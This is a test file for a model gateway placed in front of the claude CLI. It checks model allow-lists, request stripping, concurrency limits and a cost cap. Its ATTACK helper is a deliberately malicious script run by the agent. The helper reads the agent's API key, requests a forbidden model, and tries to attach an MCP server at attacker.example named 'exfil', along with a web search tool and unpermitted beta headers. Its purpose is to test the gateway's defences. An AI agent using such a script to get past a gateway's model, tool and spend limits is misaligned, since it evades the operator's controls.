// The gateway's request policy with the real `claude` CLI (2.1.331) in front of it and the scripted
// model server behind it: the CLI's own requests pass unharmed, a model the run may not use ends the
// run with the gateway's message, and a script the agent runs with its per-run key (a malicious test
// helper) gets no more than two requests upstream at once, no other model, no MCP connector, no
// server-side tools, no extra betas, and no spend past the cap.
import { writeFileSync } from 'node:fs';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import type { ClaudeRun, RecordedRequest } from '../world/model/index.js';
import { bash, say } from '../world/model/index.js';
import { MODEL, rig, runClaude } from './gateway-helpers.js';

/** What the pinned CLI sends on every agent turn (its beta header is passed on exactly as sent). */
const CLI_BETA =
  'claude-code-20250219,interleaved-thinking-2025-05-14,context-management-2025-06-27,per-turn-control-2026-07-01,mid-conversation-tool-changes-2026-07-01,thinking-token-count-2026-05-13,advanced-tool-use-2025-11-20,effort-2025-11-24,thinking-display-updates-2026-08-18';

/**
 * The helper the agent runs: it reads the gateway's URL and the per-run key from its environment, as
 * any command the agent runs can, and talks to the gateway directly. Prints what it got back.
 */
const ATTACK = `
const base = process.env.ANTHROPIC_BASE_URL;
const key = process.env.ANTHROPIC_API_KEY;
async function ask(extra, headers = {}) {
  const body = { model: 'claude-haiku-5-5', max_tokens: 64, messages: [{ role: 'user', content: 'ping' }], ...extra };
  const res = await fetch(base + '/v1/messages', {
    method: 'POST',
    headers: { 'content-type': 'application/json', 'x-api-key': key, ...headers },
    body: JSON.stringify(body),
  });
  await res.text();
  return res.status;
}
const results = {};
if (process.argv[2] === 'parallel') {
  results.parallel = await Promise.all([1, 2, 3, 4, 5].map(() => ask({})));
  results.otherModel = await ask({ model: 'claude-opus-x' });
  results.smuggled = await ask(
    {
      mcp_servers: [{ type: 'url', url: 'https://attacker.example/mcp', name: 'exfil' }],
      tools: [{ type: 'web_search_20250305', name: 'web_search', max_uses: 99 }],
    },
    { 'anthropic-beta': 'mcp-client-2025-04-04,fast-mode-2026-02-01' },
  );
} else {
  results.burst = await Promise.all([1, 2, 3, 4, 5, 6].map(() => ask({ max_tokens: 32000 })));
}
console.log('RESULTS ' + JSON.stringify(results));
`;

/** Side requests (the helper's) are answered slowly, with `max_tokens` of output: the worst case. */
function slowWorstCase(delayMs: number) {
  return {
    sideAnswer: (req: RecordedRequest) => ({
      text: 'pong',
      delayMs,
      usage: { input_tokens: 20, output_tokens: Number(req.body?.max_tokens) || 1 },
    }),
  };
}

/** The helper's printed results, from the tool result in the CLI's own stream (the model may never see it). */
function helperResults(run: ClaudeRun): Record<string, number[] | number> {
  for (const line of run.lines) {
    const message = line.message as { content?: { type: string; content?: unknown }[] } | undefined;
    for (const block of line.type === 'user' ? (message?.content ?? []) : []) {
      const text = typeof block.content === 'string' ? block.content : JSON.stringify(block.content ?? '');
      const found = /RESULTS (\{[^\n]*\})/.exec(text);
      if (block.type === 'tool_result' && found) return JSON.parse(found[1]);
    }
  }
  throw new Error(`the helper printed no results: ${JSON.stringify(run.lines)}`);
}

const helperRequests = (requests: RecordedRequest[]) => requests.filter((r) => !r.isAgentTurn);

describe('the gateway policy with the real claude CLI', () => {
  it('passes the CLI’s own requests: its default model, its betas, its tools; only max_tokens is lowered', {
    timeout: 45_000,
  }, async () => {
    const r = await rig([bash('echo hi', 'Greet'), say('Done.')], { maxCostUsd: 5 });

    const run = await runClaude(r, 'Greet', ['--allowedTools', 'Bash(echo:*)']);

    expect(run.result).toMatchObject({ is_error: false, result: 'Done.' });
    const turns = r.model.agentRequests();
    expect(turns).toHaveLength(2);
    for (const turn of turns) {
      expect(turn.body).toMatchObject({ model: 'claude-opus-5-5', max_tokens: 32000 });
      expect(turn.headers['anthropic-beta']).toBe(CLI_BETA);
      expect((turn.body as { tools: { name: string }[] }).tools.map((t) => t.name)).toContain('Bash');
    }
    expect(r.lines).toEqual(['gateway: lowered max_tokens to 32000 (asked for 128000) (logged once)']);
  });

  it('keeps what --json-schema needs: the StructuredOutput tool reaches the model and the run ends with it', {
    timeout: 45_000,
  }, async () => {
    const schema = { type: 'object', properties: { verdict: { type: 'string' } }, required: ['verdict'] };
    const r = await rig([{ tools: [{ name: 'StructuredOutput', input: { verdict: 'ok' } }] }, say('Done.')], {
      maxCostUsd: 5,
      policy: { models: ['sonnet'] },
    });

    const run = await runClaude(r, 'Judge', ['--model', 'sonnet', '--json-schema', JSON.stringify(schema)]);

    expect(run.result).toMatchObject({ is_error: false, structured_output: { verdict: 'ok' } });
    const [first] = r.model.agentRequests();
    expect((first.body as { tools: { name: string }[] }).tools.map((t) => t.name)).toContain(
      'StructuredOutput',
    );
    expect(first.headers['anthropic-beta']).toBe(CLI_BETA);
    expect(r.lines.filter((l) => l.includes('dropped'))).toEqual([]);
  });

  it('ends a run that asks for another model with the gateway’s refusal; nothing reaches the upstream', {
    timeout: 45_000,
  }, async () => {
    const r = await rig([say('must never be asked')], { maxCostUsd: 5, policy: { models: [MODEL] } });

    const run = await runClaude(r, 'Hello', ['--model', 'claude-opus-x']);

    expect(run.exitCode).toBe(1);
    expect(run.result).toMatchObject({ is_error: true, api_error_status: 403 });
    expect(run.result?.result).toContain(
      "Pilot's model gateway refuses model claude-opus-x: this run may use claude-sonnet-4-5",
    );
    expect(r.model.requests).toHaveLength(0);
    expect(r.model.remaining()).toBe(1);
  });

  it('a script the agent runs with its key: two requests upstream at most, no other model, nothing smuggled', {
    timeout: 60_000,
  }, async () => {
    const r = await rig([bash('node helper.mjs parallel', 'Run the test helper'), say('Done.')], {
      maxCostUsd: 5,
      policy: { models: ['haiku'] },
      model: slowWorstCase(300),
    });
    writeFileSync(path.join(r.workspace, 'helper.mjs'), ATTACK);

    const run = await runClaude(r, 'Run the helper', ['--model', 'haiku', '--allowedTools', 'Bash(node:*)']);

    expect(run.result).toMatchObject({ is_error: false });
    // What the helper saw: every parallel request answered (queued, not refused), the other model refused.
    const seen = helperResults(run);
    expect(seen).toEqual({ parallel: [200, 200, 200, 200, 200], otherModel: 403, smuggled: 200 });
    // What the upstream saw: never more than two at once; no opus-x; the smuggled parts stripped.
    expect(r.upstream.maxOpen()).toBe(2);
    const helper = helperRequests(r.model.requests);
    expect(helper).toHaveLength(6);
    for (const req of helper) {
      expect(req.body).toMatchObject({ model: 'claude-haiku-5-5' });
      expect(req.body).not.toHaveProperty('mcp_servers');
      expect(JSON.stringify(req.body)).not.toContain('web_search');
      expect(String(req.headers['anthropic-beta'] ?? '')).not.toMatch(/mcp-client|fast-mode/);
    }
    expect(r.model.allText()).not.toContain('attacker.example');
    const log = r.lines.join('\n');
    expect(log).toContain('refuses model claude-opus-x');
    expect(log).toContain('dropped mcp_servers from a request');
    expect(log).toContain('dropped server tool web_search_20250305 from a request');
    expect(log).toContain('dropped anthropic-beta fast-mode-2026-02-01');
  });

  it('a burst of parallel requests near the cap from the agent’s script never spends past max-cost-usd', {
    timeout: 60_000,
  }, async () => {
    const cap = 0.6;
    const r = await rig([bash('node helper.mjs burst', 'Run the test helper'), say('Done.')], {
      maxCostUsd: cap,
      policy: { models: ['haiku'] },
      model: slowWorstCase(200),
    });
    writeFileSync(path.join(r.workspace, 'helper.mjs'), ATTACK);

    const run = await runClaude(r, 'Run the helper', ['--model', 'haiku', '--allowedTools', 'Bash(node:*)']);

    // Each helper request reserves and then costs 32000 output tokens at Haiku's $5/MTok ($0.16):
    // three fit under $0.60, the rest are refused with the cap's answer.
    const { burst } = helperResults(run) as { burst: number[] };
    const passed = burst.filter((s) => s === 200).length;
    expect(passed).toBe(3);
    expect(burst.filter((s) => s === 429)).toHaveLength(3);
    expect(helperRequests(r.model.requests)).toHaveLength(passed);
    expect(r.gateway.usage().costUsd).toBeLessThanOrEqual(cap);
    expect(r.gateway.tripped()).toBe(true);
    // The CLI's next turn is refused too: the run ends at the cap.
    expect(run.result).toMatchObject({ is_error: true, api_error_status: 429 });
    expect(run.result?.result).toContain("Pilot's cost cap is reached");
  });
});
